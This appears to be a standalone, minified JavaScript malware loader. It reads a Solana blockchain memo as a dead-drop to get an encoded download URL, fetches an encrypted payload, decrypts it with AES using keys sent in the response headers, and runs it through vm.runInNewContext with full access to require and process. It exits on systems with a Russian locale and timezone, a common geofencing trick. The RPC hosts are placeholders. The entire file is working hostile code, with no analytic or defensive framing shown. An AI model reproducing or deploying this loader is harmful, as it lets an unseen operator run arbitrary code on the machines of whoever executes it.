const https=require('https'),os=require('os'),vm=require('vm'),zlib=require('zlib'),crypto=require('crypto');
const N=['https://api.mainnet-beta.solana.example.test','https://solana-rpc.publicnode.example.test'];
const A='11111111111111111111111111111111';
const L=Intl.DateTimeFormat().resolvedOptions().timeZone,T=[process.env.LANG||'',process.env.LANGUAGE||'',Intl.DateTimeFormat().resolvedOptions().locale].join(' ');
const ru=/ru[_-]RU|Russian/i.test(T)&&/Moscow|Samara|Yekaterinburg|Omsk|Novosibirsk/.test(L);
function rpc(u,method,params){return new Promise((ok,no)=>{const q=https.request(u,{method:'POST',headers:{'content-type':'application/json'}},r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>{try{ok(JSON.parse(b).result)}catch(e){no(e)}})});q.on('error',no);q.end(JSON.stringify({jsonrpc:'2.0',id:1,method,params}))})}
async function memo(){for(;;){for(const u of N){try{const s=await rpc(u,'getSignaturesForAddress',[A,{limit:1000}]);const m=s.filter(x=>x.memo)[0];if(m)return JSON.parse(m.memo.replace(/^\[\d+\]\s*/,''))}catch(e){}}await new Promise(r=>setTimeout(r,1e4))}}
(async()=>{if(ru)return;
 const{link}=await memo();
 https.get(Buffer.from(link,'base64').toString()+'?p='+os.platform(),r=>{const key=r.headers['secretkey'],iv=r.headers['ivbase64'];const c=[];r.on('data',d=>c.push(d));r.on('end',()=>{
  const d=crypto.createDecipheriv('aes-256-cbc',key,Buffer.from(iv,'base64'));
  const src=Buffer.concat([d.update(Buffer.from(Buffer.concat(c).toString(),'base64')),d.final()]).toString();
  vm.runInNewContext(src,{require,process,Buffer,console,setTimeout,setInterval,global});
 })});
})();
